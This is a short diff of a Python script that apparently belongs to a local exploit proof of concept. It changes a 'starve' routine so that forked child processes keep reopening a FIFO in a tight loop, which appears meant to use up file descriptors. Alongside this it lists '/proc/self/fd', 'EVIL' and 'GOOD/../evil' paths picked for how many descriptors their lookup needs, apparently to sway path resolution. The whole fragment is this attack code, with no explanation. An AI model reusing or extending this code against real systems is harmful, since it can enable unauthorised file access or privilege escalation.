@@ -97,10 +97,9 @@ def starve(number):
         for _ in range(int(MORE[0])):
             if os.fork() == 0:
                 libc.prctl(1, 9, 0, 0, 0)
-                why(os.open, f"{GOOD}/fifo", os.O_WRONLY)
-                time.sleep(600)
-                os._exit(0)
-        time.sleep(1)
+                while True:  # turned away for want of descriptors: once more
+                    why(os.open, f"{GOOD}/fifo", os.O_WRONLY)
+                    time.sleep(0.0001)
     # names that need many descriptors to be looked up, and names that need few
     names = (f"/proc/self/fd/{PLACE}/file", f"{EVIL}/file", f"{GOOD}/../evil/file")
     return taken(names[number % 3])
